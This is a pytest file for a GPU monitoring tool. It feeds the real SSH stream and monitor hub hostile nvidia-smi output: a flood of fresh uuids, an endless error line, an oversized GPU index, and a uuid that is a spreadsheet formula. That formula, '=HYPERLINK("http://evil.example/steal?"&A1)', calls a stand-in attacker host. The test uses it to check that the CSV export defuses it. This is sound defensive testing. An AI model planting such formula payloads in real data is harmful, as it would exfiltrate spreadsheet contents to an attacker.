"""A hostile host's nvidia-smi against the real stream + hub (real sshd, scripted nvidia-smi):
fresh GPU uuids every second, an endless line, a huge GPU index, a uuid that is a spreadsheet
formula."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from app.core.gpuhistory import export_csv
from app.remote.gpustream import GpuStream
from app.remote.ssh import open_connection
from app.watch import MonitorHub
from tests.fixtures.fake_nvidia_smi import DRIVER_STEP, a100, busy
from tests.remote.gpu_support import Samples, gpu_server

pytestmark = pytest.mark.usefixtures("private_home")

ROOT = Path(__file__).resolve().parents[2]

# 64 fresh uuids a "second" for a "minute" (as fast as the link carries them), then a line that says
# the flood is over and an exit; a restarted stream finds the marker and prints one quiet GPU.
FLOOD_SMI = r'''#!/usr/bin/python3
import os, sys, time
HERE = os.path.dirname(os.path.abspath(__file__))
MARK = os.path.join(HERE, "flood.done")
if any(a.startswith("--query-compute-apps") for a in sys.argv):
    sys.exit(0)
if os.path.exists(MARK):
    while True:
        print("0, GPU-quiet-0000-4000-8000-000000000000, NVIDIA A100-SXM4-80GB, 0, 3, 81920, 30, 60.0, 400.0, Disabled",
              flush=True)
        time.sleep(0.05)
for sec in range(60):
    lines = []
    for j in range(64):
        n = sec * 64 + j
        lines.append("%d, GPU-%08x-0000-4000-8000-000000000000, NVIDIA A100-SXM4-80GB, 97, 30000, 81920, 55, "
                     "310.50, 400.00, Disabled" % (j, n))
    sys.stdout.write("\n".join(lines) + "\n")
    sys.stdout.flush()
open(MARK, "w").close()
print("FLOOD-DONE", flush=True)
sys.exit(3)
'''

# The watcher process: the real hub (its default 24 h rings) on the real stream; it waits for the end
# of the flood, then reports its own RSS from /proc/self/statm (no psutil). RLIMIT_AS keeps a broken
# build from taking the machine down with it.
CHILD = textwrap.dedent('''
    import json, os, resource, sys, threading
    resource.setrlimit(resource.RLIMIT_AS, (3 * 1024**3, 3 * 1024**3))
    from app.watch import MonitorHub
    hub = MonitorHub(interval_s=1.0, process_every_s=0.5, retry_s=0.2)
    done = threading.Event()
    seen = {"samples": 0, "readings": 0}
    def sink(s):
        seen["samples"] += 1
        seen["readings"] += len(s.gpus)
        if s.error and "FLOOD-DONE" in s.error:
            done.set()
    hub.subscribe(sink)
    hub.watch("evil")
    ok = done.wait(120)
    page = os.sysconf("SC_PAGE_SIZE")
    rss = int(open("/proc/self/statm").read().split()[1]) * page
    suspicious = getattr(hub, "suspicious", lambda: [])()  # a hub without the list reads as none
    gpus = len(hub.history.gpus("evil"))
    hub.close()
    print(json.dumps({"ok": ok, "rss": rss, "gpus": gpus, "suspicious": suspicious, **seen}))
''')


def test_fresh_uuids_every_second_keep_the_watcher_under_300_mb():
    with gpu_server("evil", {"steps": [busy(1)]}) as (server, _fake):
        server.install_executable("nvidia-smi", FLOOD_SMI)
        server.chown_to_user(server.bin_dir)
        proc = subprocess.run([sys.executable, "-c", CHILD], cwd=ROOT, env=dict(os.environ), capture_output=True,
                              text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    print(f"watcher RSS after 64x60 fresh uuids: {result['rss'] / 2**20:.0f} MiB ({result})")
    assert result["ok"], result
    assert result["gpus"] <= 64  # the first 64 rings, no more
    assert result["suspicious"] == ["evil"]  # the host is named, its extra uuids dropped
    assert result["rss"] < 300 * 2**20


def _stream(name: str, sink: Samples) -> tuple[GpuStream, list]:
    conns: list = []

    def connect():
        if conns and conns[-1].is_active:
            return conns[-1]
        conns.append(open_connection(name))
        return conns[-1]

    return GpuStream(name, connect, sink, process_every_s=0.2, retry_s=0.2, quiet_flush_s=0.03), conns


@pytest.mark.parametrize(("known", "expect"), [
    (True, "couldn't communicate with the NVIDIA driver"),  # nvidia-smi's own message after the long line
    (False, "nvidia-smi failed (exit status 1)"),  # only the long line: the error quotes its start
])
def test_an_endless_error_line_is_cut_and_the_error_still_reported(known, expect):
    # 2 MiB of one line (the window once froze on it for seconds), then the driver error or nothing
    endless = "x" * (2 * 1024 * 1024)
    step = {"exit": 9, "output": [endless, *DRIVER_STEP["output"]]} if known else {"exit": 1, "output": [endless]}
    with gpu_server("long", {"steps": [step, busy(1, 44)]}) as _:
        sink = Samples()
        stream, conns = _stream("long", sink)
        stream.start()
        try:
            err = sink.wait_for(lambda s: s.error is not None)
            assert expect in err.error and ("reboot" in err.error or "run nvidia-smi on the host" in err.error)
            assert len(err.error) < 1000  # the 2 MiB line is not carried to the window
            back = sink.wait_for(lambda s: bool(s.gpus) and s.gpus[0].utilization_gpu == 44.0)
            assert back.error is None
        finally:
            stream.stop()
            for c in conns:
                c.close()


def test_a_huge_gpu_index_on_one_host_never_breaks_the_others_archive():
    evil = a100(0, 50)
    evil["index"] = "100000000000000000000000000000"
    steps = {"steps": [{"gpus": [evil, a100(1, 60)]}]}
    with gpu_server("good", {"steps": [busy(1)]}) as _g, gpu_server("huge", steps) as _h:
        hub = MonitorHub(interval_s=1.0, process_every_s=0.5, retry_s=0.2)
        sink = Samples()
        hub.subscribe(sink)
        try:
            hub.watch("good")
            hub.watch("huge")
            sink.wait_for(lambda s: s.host == "good" and bool(s.gpus))
            bad = sink.wait_for(lambda s: s.host == "huge" and bool(s.gpus))
            assert [g.index for g in bad.gpus] == [1]  # the row with the huge index is refused
        finally:
            hub.close()  # flushes the minute being accumulated for both hosts
        minutes = {int(s.time.timestamp() // 60) for s in sink.all if s.host == "good" and s.gpus}
        rows = hub.store.query("SELECT DISTINCT minute FROM gpu_minutes WHERE host='good'")
        assert {r["minute"] for r in rows} == minutes


def test_a_formula_uuid_from_the_host_is_inert_in_the_csv_export(tmp_path):
    rec = a100(0, 50)
    rec["uuid"] = '=HYPERLINK("http://evil.example/steal?"&A1)'
    with gpu_server("csv", {"steps": [{"gpus": [rec, a100(1, 60)]}]}) as _:
        hub = MonitorHub(interval_s=1.0, process_every_s=0.5, retry_s=0.2)
        sink = Samples()
        hub.subscribe(sink)
        try:
            hub.watch("csv")
            s = sink.wait_for(lambda s: len(s.gpus) == 2)
        finally:
            hub.close()
    out = tmp_path / "gpus.csv"
    t = s.time.timestamp()
    assert export_csv(out, hub.history, hub.archive, "csv", t - 5, t + 5) >= 2
    with out.open(newline="", encoding="utf-8") as fh:
        uuids = {r["gpu_uuid"] for r in csv.DictReader(fh)}
    assert "'" + rec["uuid"] in uuids and rec["uuid"] not in uuids
    assert not any(u.startswith(("=", "+", "-", "@")) for u in uuids)
